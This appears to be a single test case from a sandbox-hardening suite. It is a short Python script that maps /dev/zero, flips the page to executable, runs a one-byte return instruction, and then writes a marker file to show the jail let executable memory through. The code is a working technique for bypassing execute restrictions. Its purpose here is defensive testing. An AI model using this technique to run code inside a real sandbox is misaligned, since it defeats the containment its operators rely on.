# attack: jail/zero-device-made-executable
# oracle: write-file
# imports: os, mmap, ctypes
# tools:
# source: own
# note: memory of /dev/zero is anonymous and has a descriptor
import os, mmap, ctypes
fd = os.open("/dev/zero", os.O_RDWR)
libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
for prot in (5, 7):
    for flags in (1, 2):
        at = libc.mmap(None, ctypes.c_size_t(4096), prot, flags, fd, 0)
        if at and at < (1 << 63) and libc.mprotect(ctypes.c_void_p(at), ctypes.c_size_t(4096), 3) == 0:
            ctypes.memset(at, 0xC3, 1)
            if libc.mprotect(ctypes.c_void_p(at), ctypes.c_size_t(4096), 5) == 0:
                ctypes.CFUNCTYPE(None)(at)()
                open("{{PWN_FILE}}", "w").close()
